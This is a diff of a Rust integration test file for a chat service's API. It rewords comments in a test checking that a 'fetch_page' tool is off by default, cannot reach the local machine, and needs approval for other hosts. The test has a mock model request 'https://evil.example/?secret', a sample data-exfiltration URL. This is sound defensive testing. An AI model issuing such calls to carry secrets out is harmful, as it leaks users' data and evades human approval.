@@ -1,4 +1,4 @@
-//! Conversations through the API: make, list, page, search, rename, delete.
+//! Conversations through the API: create, list, page, search, rename, delete.
 
 use reqwest::StatusCode;
 use serde_json::{Value, json};
@@ -136,7 +136,7 @@ async fn tools_and_health_are_told() {
     assert!(metrics.contains("tallybook_turns_running 0\n"), "{metrics}");
 }
 
-/// Off unless it is switched on, and then it reaches nothing of this machine.
+/// The tool `fetch_page` is off by default. If it is on, it cannot reach this machine.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn pages_of_the_web_are_read_where_that_is_allowed() {
     let (engine, model) = (Engine::sqlite(), MockLlm::start().await.unwrap());
@@ -152,7 +152,7 @@ async fn pages_of_the_web_are_read_where_that_is_allowed() {
     let calls = rows!(app, (String, Option<String>), "SELECT status, error FROM tool_calls");
     let error = calls[0].1.as_deref().unwrap_or_default();
     assert!(calls[0].0 == "error" && error.ends_with("is not on the public internet"), "{calls:?}");
-    // An address can carry data out, so other hosts need approval.
+    // A URL can carry data out, so calls for other hosts need approval.
     let conversation = app.create_conversation().await;
     model.reply([tool_call("fetch_page", json!({ "url": "https://evil.example/?secret" }).to_string())]);
     app.send(&conversation, "And there?").await.all().await;
